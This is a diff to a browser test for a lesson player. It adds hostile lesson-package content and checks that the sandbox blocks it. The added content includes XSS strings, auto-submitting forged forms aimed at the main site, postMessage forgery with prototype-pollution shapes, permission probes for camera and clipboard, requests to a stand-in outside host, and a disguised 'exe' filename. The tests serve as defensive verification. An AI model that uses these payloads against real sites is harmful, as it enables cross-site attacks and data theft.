@@ -351,7 +351,10 @@ def test_without_script_the_page_says_that_it_is_impossible(learner, lesson):
 
 
 HOSTILE = """<!doctype html><title>Hostile</title><p id="done">…</p><form id="f" method="post"
-action="MAIN/compte/apparence/"><input name="theme" value="dark"></form><script>
+action="MAIN/compte/apparence/"><input name="theme" value="dark"></form><div id="more"></div>
+<a id="out" target="_top" href="OTHER/clicked" ping="OTHER/ping">1</a> <a id="window" target="_blank" href="OTHER/window">2</a>
+<a id="download" download="facture.exe" href="a.html">3</a>
+<button id="send" onclick="document.getElementById('f').submit()">4</button><script>
 const found = {};
 const attempt = async (name, act) => { try { found[name] = String(await act()); } catch (e) { found[name] = "no"; } };
 (async () => {
@@ -378,8 +381,33 @@ const attempt = async (name, act) => { try { found[name] = String(await act()); 
     script.onload = () => yes("yes"); script.onerror = no;
     window.parent.document.head.append(script);
   }));
+  await attempt("shared-worker", () => new Promise((yes, no) => { const w = new SharedWorker("sw.js"); w.onerror = no; w.port.onmessage = () => yes("yes"); setTimeout(no, 1000); }));
+  await attempt("blob-worker", () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onerror = no; w.onmessage = () => yes("yes"); setTimeout(no, 1000); }));
+  await attempt("import", () => import("OTHER/module.js").then(() => "yes"));
+  await attempt("database", () => top.indexedDB);
+  await attempt("caches", () => top.caches);
+  await attempt("position", () => new Promise((yes, no) => { navigator.geolocation.getCurrentPosition(() => yes("yes"), no); }));
+  await attempt("camera", () => navigator.mediaDevices.getUserMedia({video: true}).then(() => "yes"));
+  await attempt("clipboard", () => navigator.clipboard.readText());
+  await attempt("notices", async () => await Notification.requestPermission() === "granted" ? "yes" : "no");
+  await attempt("screen", () => navigator.mediaDevices.getDisplayMedia().then(() => "yes"));
+  await attempt("script-above", () => { top.location = "javascript:window.harmed=1"; return "asked"; });
+  document.getElementById("more").innerHTML = `
+    <link rel="prefetch" href="OTHER/prefetch"><link rel="preload" as="image" href="OTHER/preload">
+    <link rel="stylesheet" href="OTHER/sheet.css"><style>@import "OTHER/import.css"; p { background: url(OTHER/background.png) }</style>
+    <link rel="icon" href="OTHER/icon.png"><link rel="manifest" href="OTHER/manifest.json">
+    <video src="OTHER/video.mp4" autoplay></video><audio src="OTHER/sound.mp3" autoplay></audio>
+    <object data="OTHER/object"></object><embed src="OTHER/embed"><svg><image href="OTHER/image.svg"/></svg>
+    <iframe src="OTHER/frame"></iframe><input type="image" src="OTHER/input.png">
+    <iframe srcdoc='<meta http-equiv="refresh" content="0;url=OTHER/refresh">'></iframe>
+    <iframe srcdoc='<form method="post" target="_top" action="MAIN/compte/apparence/"><input name="theme" value="dark"></form><script>document.forms[0].submit()<\\/script>'></iframe>
+    <iframe sandbox="allow-scripts allow-top-navigation allow-popups" srcdoc='<script>top.location = "OTHER/nested"; open("OTHER/popup")<\\/script>'></iframe>`;
+  const rules = document.createElement("script");
+  rules.type = "speculationrules";
+  rules.textContent = '{"prefetch": [{"urls": ["OTHER/speculation"]}]}';
+  document.head.append(rules);
+  await new Promise((resolve) => setTimeout(resolve, 1500));
   console.log("FOUND" + JSON.stringify(found));
-  document.getElementById("f").submit();
 })();
 </script>"""
 # Runs in the page around the unit, which may post to ours: what it says there is words of a stranger.
@@ -387,14 +415,18 @@ FORGE = """
 for (const shape of [null, 1, "x", [], {}, {kind: "state"}, {kind: "state", data: 1, keep: true},
     {kind: "__proto__"}, {kind: "constructor"}, {kind: {}}, {kind: "state", data: {a: {b: 1}}, keep: true},
     {kind: "state", keep: true, data: {"cmi.suspend_data": "x".repeat(9000000)}},
+    new Map([["kind", "state"]]), new ArrayBuffer(8), {kind: "closed"}, {kind: "state", data: new Map(), finished: {}},
+    JSON.parse('{"kind": "state", "keep": true, "data": {"__proto__": {"hidden": "1"}}}'),
     {kind: "state", keep: true, data: {"<img src=x onerror=window.harmed=1>": "<script>window.harmed=1</script>"}}]) {
   above.postMessage(shape, "*");
 }
 for (let n = 0; n < 300; n++) above.postMessage({kind: "state", keep: true, data: {"cmi.suspend_data": String(n)}}, "*");
 """
+HARMFUL = "Hostile \"'><img src=x onerror=window.harmed=1></script>\u202eexe"
 NOTHING = dict.fromkeys(
     ["document", "cookie", "storage", "main", "no-cors", "outside", "image", "window", "worker", "top",
-     "port", "image-port", "xhr", "socket", "eval"],
+     "port", "image-port", "xhr", "socket", "eval", "shared-worker", "blob-worker", "import", "database",
+     "caches", "position", "camera", "clipboard", "notices", "screen", "script-above"],
     "no",
 )  # fmt: skip
 # What the browser says that it refused.
@@ -434,21 +466,25 @@ def test_a_hostile_package_reaches_nothing_and_breaks_nothing(learner, lesson, s
     other, asked = other_port
     content = HOSTILE.replace("MAIN", site.url).replace("OTHER", other)
     files = {"a.html": content, "forge.js": FORGE, "sw.js": ""}
-    address = lesson("Hostile", package(files, title="Hostile"))
+    address = lesson(HARMFUL, package(files, title=HARMFUL))
     one = learner()
-    gone = []
+    gone, downloads = [], []
     one.page.on("request", lambda request: gone.append(request.url))
+    one.page.on("download", lambda download: downloads.append(download.url))
     with one.page.expect_console_message(lambda said: said.text.startswith("FOUND")) as told:
-        opened(one, address)
+        unit = opened(one, address)
     player = one.page.url
     found = json.loads(told.value.text.removeprefix("FOUND"))
     assert {name: found[name] for name in NOTHING} == NOTHING, found
+    for name in ("#out", "#window", "#download", "#send"):  # a click lets a page do more
+        unit.locator(name).click()
 
     assert asked == []
     assert found["forged"] == "yes"
     said(one, "kept")  # the last of three hundred, sent a few at a time
-    assert states(site, "Hostile")[0][3] == {"cmi.suspend_data": "299"}
-    assert states(site, "Hostile")[0][4] < 20
+    assert states(site, HARMFUL)[0][3] == {"cmi.suspend_data": "299"}
+    assert states(site, HARMFUL)[0][4] < 20
+    assert downloads == []
     assert one.page.url == player
     assert len(one.context.pages) == 1
     assert one.page.evaluate("window.harmed") is None
